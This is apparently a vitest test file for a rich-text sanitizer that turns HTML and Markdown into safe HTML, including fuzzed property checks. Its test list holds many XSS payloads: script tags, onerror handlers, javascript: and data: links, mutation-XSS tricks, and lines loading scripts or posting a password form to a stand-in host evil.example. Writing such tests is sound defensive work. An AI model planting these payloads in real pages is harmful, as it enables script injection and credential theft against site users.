import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { playerHosts } from '../../src/base/text/players.ts'
import { htmlOf } from '../../src/school/richText.ts'

const tags =
  'h1|h2|h3|h4|h5|h6|p|br|hr|blockquote|pre|ul|ol|li|dl|dt|dd|a|abbr|b|cite|code|del|em|i|ins|kbd|mark|q|s|small|strong|sub|sup|u|' +
  'img|iframe|figure|figcaption|table|caption|thead|tbody|tfoot|tr|th|td'
const attributes = 'href|title|rel|src|alt|width|height|loading|allow|sandbox|referrerpolicy|start|colspan|rowspan|scope'
// The whole output must be text, or tags and attributes of these lists in their strictest form. This check does not use a parser.
const safe = new RegExp(`^(?:[^<>]|</(?:${tags})>|<(?:${tags})(?: (?:${attributes})="[^"<>]*")*(?: /)?>)*$`)
const addresses = (html: string): string[] =>
  [...html.matchAll(/<[^>]*>/g)].flatMap(([tag]) => [...tag.matchAll(/ (?:href|src)="([^"]*)"/g)].map(([, address = '']) => address))

const frames = (html: string): string[] => html.match(/<iframe\b[^>]*>/g) ?? []

function expectSafe(html: string): void {
  expect(html).toMatch(safe)
  for (const frame of frames(html)) {
    expect(frame).toContain(' sandbox="allow-scripts ')
    expect(playerHosts).toContain(new URL(/ src="([^"]*)"/.exec(frame)?.[1] ?? '').host)
  }
  for (const address of addresses(html)) {
    const { protocol } = new URL(address.replaceAll('&amp;', '&').trim(), 'https://school.example/')
    expect(['https:', 'http:', 'mailto:']).toContain(protocol)
  }
}

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<img/src/onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://youtu.be/dQw4w9WgXcQ" srcdoc="<script>alert(1)</script>" onload="alert(1)" sandbox="allow-top-navigation"></iframe>',
  '<iframe src="https://youtu.be/dQw4w9WgXcQ"><p title="</iframe><script>alert(1)</script>">x</p><img src=x onerror=alert(1)></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ"></iframe>',
  '<iframe src="https://youtu.be/dQw4w9WgXcQ"><iframe src="javascript:alert(1)">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="&Tab;javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="//evil.example">x</a>',
  '<img src="//evil.example/pixel.png">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="https://ok.example/a.png" srcset="javascript:alert(1)">',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p id="csrf" name="token" class="admin">x</p>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<a href="https://x.example" target="_blank" rel="opener" onclick="alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](data:text/html,1)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](https://x.example/a.png)',
  '[x](https://x.example "t\\"onmouseover=alert(1)")',
  '```"><script>alert(1)</script>\nx\n```',
  '<b'.repeat(500),
  '<!--'.repeat(500),
  '<div>'.repeat(90),
  '> '.repeat(5000),
  '['.repeat(5000),
]

describe('rich text becomes HTML that is safe on any page', () => {
  test.each(hostile)('%j', (text) => {
    expectSafe(htmlOf(text, 'html'))
    expectSafe(htmlOf(text, 'markdown'))
  })

  test('whatever is written, and made safe once more it stays as it is', () => {
    const piece = fc.oneof(
      fc.constantFrom(...hostile.map((text) => text.slice(0, 200))),
      fc.constantFrom('<', '>', '"', "'", '&', '&#x', ';', '<a href=', 'javascript:', ' onerror=', '</', '<!--', '-->', '\n\n', '`', '\0'),
      fc.string({ maxLength: 12 }),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const text = pieces.join('')
        for (const format of ['html', 'markdown'] as const) {
          const html = htmlOf(text, format)
          expectSafe(html)
          expect(htmlOf(html, 'html')).toBe(html)
        }
      }),
      { numRuns: 400 },
    )
  })

  test('a link inside a link is written as it is read: one after the other', () => {
    const html = htmlOf('<a href=<script>alert(1)</script><javascript:alert(1)><a href="java\tscript:alert(1)">x</a>', 'html')
    expect(html).not.toMatch(/<a\b[^>]*>(?:(?!<\/a>).)*<a\b/)
    expect(htmlOf(html, 'html')).toBe(html)
  })

  test('allowed elements stay', () => {
    expect(htmlOf('## Wedging\n\nFold **twice**, see [the table](https://x.example/?a=1&b=2).\n\n1. one\n2. two', 'markdown')).toBe(
      '<h2>Wedging</h2>\n<p>Fold <strong>twice</strong>, see ' +
        '<a href="https://x.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow">the table</a>.</p>\n' +
        '<ol>\n<li>one</li>\n<li>two</li>\n</ol>\n',
    )
    expect(htmlOf('| a | b |\n|---|---|\n| 1 | 2 |', 'markdown')).toContain('<td>2</td>')
    expect(htmlOf('<figure><img src="https://x.example/a.png" alt="A bowl"><figcaption>Bowl</figcaption></figure>', 'html')).toBe(
      '<figure><img src="https://x.example/a.png" alt="A bowl" loading="lazy" /><figcaption>Bowl</figcaption></figure>',
    )
  })

  test('the frame of a player stays, isolated and without cookies, and every other frame is removed', () => {
    const copied =
      '<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ?si=x" title="Wedging" frameborder="0" allowfullscreen></iframe>'
    expect(htmlOf(`<p>See:</p>${copied}`, 'html')).toBe(
      '<p>See:</p><iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="Wedging" width="560" height="315" loading="lazy" ' +
        'allow="fullscreen; encrypted-media; picture-in-picture" sandbox="allow-scripts allow-same-origin allow-forms allow-popups allow-presentation" ' +
        'referrerpolicy="strict-origin-when-cross-origin"></iframe>',
    )
    expect(htmlOf('<iframe src="//player.vimeo.com/video/1"></iframe>', 'html')).toContain('src="https://player.vimeo.com/video/1?dnt=1"')
    expect(htmlOf('<p>a</p><iframe src="https://evil.example/"></iframe><iframe></iframe>', 'html')).toBe('<p>a</p>')
  })

  test('tags in Markdown are text', () => {
    expect(htmlOf('a <b>tag</b>', 'markdown')).toBe('<p>a &lt;b&gt;tag&lt;/b&gt;</p>\n')
  })
})
